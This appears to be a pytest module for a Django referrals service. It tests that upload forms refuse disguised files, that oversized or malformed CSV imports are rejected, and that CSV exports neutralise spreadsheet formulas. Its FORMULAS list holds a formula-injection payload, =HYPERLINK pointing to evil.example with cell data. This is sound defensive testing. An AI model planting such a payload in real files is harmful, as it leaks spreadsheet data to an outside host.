"""Uploads that are not what they say, files that are too big, and cells that are formulas.

``refuses_upload`` is the reusable check: point it at any upload form (the cabinet report's
PDF appendix upload when issue 5 is merged) with ``LYING_FILES`` and it asserts the answer is
a refusal with a GOV.UK error summary that changed nothing. The generic test below already
finds every form with a file field on every page, so a new upload form is fed every lying file
the day it is merged.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from core.access_log import record_access
from core.roles import Role
from core.spreadsheets import FORMULA_STARTS, safe_cell
from devtools.synthetic import synthetic_rows, to_csv
from referrals.imports import services as imports
from referrals.imports.format import ImportRefused, parse_file
from referrals.models import ImportBatch, Referral, School
from tests.conftest import sign_in_verified
from tests.hostile.strategies import LYING_FILES, hostile_text
from tests.hostile.walk import (
    ACTORS,
    build_world,
    discover_forms,
)
from tests.support.uploads import refuses_upload

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A2)", " =1+1", "\t=1"]


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")


@pytest.mark.parametrize("actor", ACTORS)
def test_every_upload_form_refuses_files_that_are_not_what_they_say(client, role_user, actor):
    world = build_world(role_user)
    world.sign_in(client, actor)
    for form in discover_forms(client, world, method="post"):
        files = [name for name, f in form.fields.items() if f.kind == "file"]
        for field in files:
            data = {k: v for k, v in form.browser_data().items() if k != field}
            for lying in LYING_FILES:
                refuses_upload(client, form.action, field, lying, data)


# --- PDF appendices (issue 5) ------------------------------------------------------------------


#: The PDF upload forms to hold to account, added by whoever merges them: (actor, a function of
#: the walk's world giving the form's URL, the file field, the other fields a valid upload
#: needs). With everything else valid, only the file can be why the answer is a refusal.
#: For example, once wip-scrutiny is merged:
#:   ("report_officer", lambda world: reverse("scrutiny:appendix_upload", args=[...]), "file",
#:    {"title": "Appendix 5", "exempt": "false"})
def _new_report_appendix_url(world):
    from django.urls import reverse

    from tests.scrutiny.helpers import make_report

    report = make_report(world.users[Role.REPORT_OFFICER.value])
    assert report.version == 1
    return reverse("scrutiny:appendix_add", args=[report.pk])


PDF_UPLOAD_FORMS: list[tuple] = [
    (
        Role.REPORT_OFFICER.value,
        _new_report_appendix_url,
        "upload",
        {"kind": "uploaded_pdf", "title": "Appendix 5", "version": "1"},
    ),
]

NOT_PDFS = [f for f in LYING_FILES if f[0].endswith(".pdf")] + [
    ("appendix.pdf", b"%PDF-1.4\n" + b"0" * 2_000, "application/pdf"),  # a header, then no PDF
    ("appendix.PDF", "source_id\n1\n".encode("utf-16"), "application/pdf"),
]


@pytest.mark.parametrize("upload_form", PDF_UPLOAD_FORMS or [None])
@pytest.mark.parametrize("lie", NOT_PDFS, ids=lambda f: f"{f[0]}:{f[1][:8]!r}")
def test_pdf_appendix_uploads_are_parsed_not_believed(client, role_user, upload_form, lie):
    if upload_form is None:
        pytest.fail("PDF_UPLOAD_FORMS is empty: the scrutiny appendix upload form must be listed")
    actor, url_of, field, data = upload_form
    world = build_world(role_user)
    world.sign_in(client, actor)
    refuses_upload(client, url_of(world), field, lie, data)


# --- The CSV import -------------------------------------------------------------------------


@pytest.fixture
def manager_client(client, role_user):
    manager = role_user(Role.MASH_MANAGER, username="importer")
    sign_in_verified(client, manager)
    return client, manager


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("source_id,x\n1,2\n".encode("utf-16"), "not in UTF-8"),
        ("source_id,x\n1,2\n".encode("utf-16-le"), "not in UTF-8"),
        (b"\x89PNG\r\n\x1a\n" + bytes(50), "not in UTF-8"),
        (b"PK\x03\x04" + bytes(50), "must be a CSV file"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n", "not in UTF-8"),
        (b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n", "column"),
        (b"   \n\n ", "empty"),
        (b'"unclosed\n' + b"x" * 200_000, "could not be read as CSV"),
    ],
)
def test_the_import_refuses_files_that_are_not_csv(manager_client, content, message):
    client, _ = manager_client
    messages = refuses_upload(
        client, reverse("referrals:import"), "file", ("referrals.csv", content, "text/csv")
    )
    assert any(message in m for m in messages), messages


def test_the_import_refuses_a_file_too_big_before_reading_it(manager_client, settings):
    client, _ = manager_client
    settings.REFERRAL_IMPORT_MAX_BYTES = 10_000
    messages = refuses_upload(
        client, reverse("referrals:import"), "file", ("big.csv", b"source_id\n" + b"1\n" * 20_000, "text/csv")
    )
    assert any("must be smaller than" in m for m in messages), messages


def test_formula_cells_are_imported_as_text_and_exported_neutralised(manager_client, role_user):
    """A historic file may hold =HYPERLINK(...) in a narrative: it is kept as the words it is,
    and every CSV the service writes makes it text again."""
    from referrals import services

    client, manager = manager_client
    urns = [f"9{n:05d}" for n in range(3)]
    for urn in urns:
        School.objects.create(urn=urn, name=f"School {urn}", phase="secondary", local_authority="X")
    rows = synthetic_rows(3, urns=urns, prefix="FX")
    for row, formula in zip(rows, FORMULAS, strict=False):
        row["referrer_name"] = formula
        row["narrative"] = formula
        row["referrer_role"] = formula
    batch = imports.referral_import_preview(
        user=manager, upload=SimpleUploadedFile("f.csv", to_csv(rows), content_type="text/csv")
    )
    assert batch.status == ImportBatch.Status.READY, batch.errors
    imports.referral_import_apply(user=manager, batch_id=batch.pk)
    from core import permissions

    grantor = role_user(Role.MASH_MANAGER, username="grantor")  # nobody grants to themselves
    for referral in Referral.objects.filter(external_id__startswith="FX"):
        services.referral_grant(
            granted_by=grantor,
            referral_id=referral.pk,
            user=manager,
            actions=[permissions.VIEW_EXEMPT],
            reason="Checks the export for the walk",
        )
    response = client.get(f"{reverse('referrals:export')}?view=all")
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells), "the export should carry the narrative"
    for cell in cells:
        assert cell.lstrip(" ")[:1] not in FORMULA_STARTS, cell


def test_the_access_log_export_neutralises_what_browsers_and_people_sent(client, role_user):
    """The user agent is whatever a browser says, and a break-glass reason whatever a manager
    typed: information governance's CSV must not run either in a spreadsheet."""
    from tests.factories import ReferralFactory

    officer = role_user(Role.INFORMATION_GOVERNANCE, username="ig")
    referral = ReferralFactory()
    for formula in FORMULAS:
        request = RequestFactory().get("/x", HTTP_USER_AGENT=formula)
        record_access(
            request=request,
            user=officer,
            record=referral,
            label=referral.reference,
            fields=["narrative"],
            channel="page",
            reason=formula,
        )
    sign_in_verified(client, officer)
    response = client.get(f"{reverse('core:access_log')}?format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    for cell in cells:
        assert cell.lstrip(" ")[:1] not in FORMULA_STARTS, cell


@given(value=st.one_of(hostile_text(), st.sampled_from(FORMULAS)))
def test_safe_cell_never_leaves_a_formula(value):
    cell = safe_cell(value)
    assert cell.lstrip(" ")[:1] not in FORMULA_STARTS
    assert cell in (value, "'" + value)


# --- Hypothesis over the import's reader -------------------------------------------------------


@given(data=st.binary(max_size=3000))
def test_any_bytes_are_read_or_refused_never_an_error(data):
    try:
        parsed = parse_file(data, max_rows=100)
    except ImportRefused as refused:
        assert refused.messages  # noqa: PT017 - either outcome is fine; an error is not
        assert all(refused.messages)  # noqa: PT017
    else:
        assert parsed.row_count >= 0


CELL = st.one_of(
    hostile_text(), st.sampled_from(["", "yes", "no", "27/03/2019", "2019-03-27 14:30", "school"])
)


@given(
    rows=st.lists(
        st.dictionaries(st.sampled_from(["source_id", "received_at", "narrative", "child1_role"]), CELL),
        max_size=5,
    ),
    header_noise=st.lists(st.text(max_size=12), max_size=3),
)
def test_any_csv_is_checked_row_by_row_never_an_error(rows, header_noise):
    """A file with the real headings and anything in the cells: every problem is a message
    naming a row and column, and no message quotes a cell (a cell may name a child)."""
    from referrals.imports.format import all_columns

    columns = all_columns()[:40] + [h for h in header_noise if h.strip()]
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(c, "") for c in columns])
    try:
        parsed = parse_file(buffer.getvalue().encode("utf-8", errors="replace"), max_rows=100)
    except ImportRefused as refused:
        assert all(refused.messages)  # noqa: PT017
        return
    for problem in parsed.problems:
        assert problem.message
        assert re.match(r"Row \d+: ", problem.message), problem.message
        for row in rows:
            for value in row.values():
                if len(value.strip()) >= 12:
                    assert value.strip() not in problem.message, (value, problem.message)


def test_every_upload_form_class_is_held_to_account():
    """A form class with a file field other than the CSV import's must be in PDF_UPLOAD_FORMS,
    so merging the appendix upload without pointing these tests at it fails here."""
    from django import forms

    from referrals.forms import ImportUploadForm
    from tests.support.form_classes import form_classes

    uploads = [
        cls
        for cls in form_classes()
        if cls is not ImportUploadForm
        and any(isinstance(f, forms.FileField) for f in cls.base_fields.values())
    ]
    if uploads:
        assert PDF_UPLOAD_FORMS, f"add {[c.__name__ for c in uploads]} to PDF_UPLOAD_FORMS"
